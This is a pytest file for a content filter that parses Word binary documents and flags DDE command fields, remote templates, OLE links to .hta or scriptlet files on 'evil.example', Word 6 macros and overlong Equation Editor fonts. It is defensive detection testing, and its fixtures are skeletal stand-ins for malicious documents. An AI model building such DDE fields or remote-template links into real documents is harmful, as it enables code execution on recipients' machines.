"""Word's binary format: fields in pieces, templates, links, and the macros of Word 6."""

from __future__ import annotations

import struct

import pytest

from contentfilter.containers.cfb import CompoundFile
from contentfilter.containers.word_binary import WordDocument
from tests.samples.compound import compound_file
from tests.samples.word import equation, word_6, word_document

from ..scanned import found


def document(data: bytes) -> WordDocument:
    file = CompoundFile.find(data)
    assert file is not None
    [stream] = [stream for stream in file.streams if stream.key == "worddocument"]
    return WordDocument(file, stream)


def test_text_in_pieces_is_put_in_order():
    assert document(word_document(pieces=[b"D\xe4", "\u0416D", b"E"])).text() == "Dä\u0416DE"
    assert document(word_document(pieces=[b"whole"])).text() == ""
    assert document(word_document(b"text")).text() == ""


@pytest.mark.parametrize(
    "data",
    [
        word_document(b"\x13 DDEAUTO cmd \x14x\x15"),
        word_document("\x13 dde cmd \x14x\x15".encode("utf-16-le")),
        word_document(pieces=[b"text \x13 D", b"DE cm", "d /k\x14x\x15"]),
        word_document(pieces=["\x13", b" DDEAUTO x"], table="0Table"),
        word_document(b"\x13 \x13QUOTE 68 68 69\x14x\x15 cmd\x15"),
        word_document(b"\x13HYPERLINK x\x14\x13 DDE cmd\x15\x15"),
        word_document(b"\x13REF a\x14x\x15" * 5000 + b"\x13\x13REF a\x15 cmd\x15"),
        word_document(b"\x13 LINK Excel.Sheet.8 C:\\a.xls\x15" * 500 + b"\x13 DDE cmd\x15"),
    ],
)
def test_dde_fields(data: bytes):
    assert found(data) == {"office-dde"}


@pytest.mark.parametrize(
    "data",
    [
        word_document(b"\x13 REF a \x14x\x15" * 20_000),
        word_document(b"\x13 LINK Excel.Sheet.8 C:\\a.xls\x15" * 5000),
        word_document(pieces=[b"\x13 REF ", b"DDE x\x15"]),
        word_document(template="C:\\Templates\\Normal.dotm"),
        word_document(template="Normal"),
    ],
)
def test_other_fields(data: bytes):
    assert found(data) == set()


@pytest.mark.parametrize(
    "data",
    [
        word_document(template="https://evil.example/t.dotm"),
        word_document(template="\\\\evil.example\\share\\t.dotm"),
        word_document(template="http://evil.example/", table="0Table"),
        word_document(b"\x13 INCLUDETEXT http://evil.example/a\x15"),
    ],
)
def test_what_is_fetched_from_elsewhere(data: bytes):
    assert found(data) == {"office-remote-template"}


def test_macros_of_word_6():
    assert found(word_6(b"\xff\x01\x02\x00" + bytes(48))) == {"office-macro"}
    assert (
        found(word_6(b"\xff\x01\x00\x00"))
        == found(word_6(b"\xff\x03\x02\x00"))
        == found(word_6(b""))
        == set()
    )


def test_tables_that_lie_are_no_crash():
    whole = word_document(pieces=[b"D", "DE"], template="x" * 100)
    file = CompoundFile.find(whole)
    assert file is not None
    for value in (0, 1, 0xFFFF, 0x7FFFFFFF, 0xFFFFFFFF):
        for place in range(0x200, 0x200 + 0x1B0, 2):
            broken = bytearray(whole)
            struct.pack_into("<I", broken, place, value)
            found(bytes(broken))


# Links of embedded objects.

MONIKER = bytes.fromhex("e0c9ea79f9bace118c8200aa004ba90b")
SCRIPT = bytes.fromhex("d30b2906aa48d2118432006008c3fbfc")
EQUATION = bytes.fromhex("02ce020000000000c000000000000046")
MATHTYPE = bytes.fromhex("03ce020000000000c000000000000046")


def link(target: str, moniker: bytes = MONIKER) -> bytes:
    wide = target.encode("utf-16-le") + b"\0\0"
    return compound_file(
        {"\x01Ole": b"\x01\0\0\x02\x09\0\0\0" + moniker + struct.pack("<I", len(wide)) + wide}
    )


def with_class(data: bytes, kind: bytes, name: str = "Root Entry") -> bytes:
    at = data.index(name.encode("utf-16-le"), 512)
    return data[: at + 80] + kind + data[at + 96 :]


@pytest.mark.parametrize(
    ("data", "names"),
    [
        (link("http://evil.example/x.hta"), {"office-remote-template"}),
        (link("\\\\evil.example\\x\\a.doc"), {"office-remote-template"}),
        (link("C:\\scripts\\x.sct", SCRIPT), {"office-remote-template"}),
        (link("C:\\Documents\\table.xls"), set()),
        (compound_file({"\x01Ole": bytes(12) + b"https://evil.example/a"}), {"office-remote-template"}),
        (compound_file({"\x03LinkInfo": b"\x10\0http://evil.example/"}), {"office-remote-template"}),
        (compound_file({"\x01Ole": b"\x01\0\0\x02" + bytes(16)}), set()),
        (with_class(compound_file({"x": bytes(100)}), EQUATION), {"ole-object"}),
        (compound_file({"Equation Native": bytes(100)}), {"ole-object"}),
        (compound_file({"Equation Native": equation()}), {"ole-object"}),
        (compound_file({"eQUATION nATIVE": equation(font=b"A" * 44)}), {"ole-object", "executable"}),
        (with_class(compound_file({"Equation Native": equation(font=b"A" * 44)}), MATHTYPE), set()),
        (
            with_class(compound_file({"Equation Native": equation(font=b"A" * 44)}), EQUATION),
            {"ole-object", "executable"},
        ),
        (
            with_class(compound_file({"\x01oLE10nATIVE": b"\x20\0\0\0" + bytes(32)}), EQUATION),
            {"ole-object", "executable"},
        ),
        (with_class(compound_file({"\x01Ole10Native": b"\x20\0\0\0" + bytes(32)}), MATHTYPE), set()),
        (with_class(compound_file({"Equation Native": bytes(100)}), MATHTYPE), set()),
        (
            with_class(compound_file({"ObjectPool": {"_1": {"x": bytes(9)}}}), EQUATION, "_1"),
            {"ole-object"},
        ),
    ],
)  # fmt: skip
def test_links_and_equations(data: bytes, names: set[str]):
    assert found(data) == names
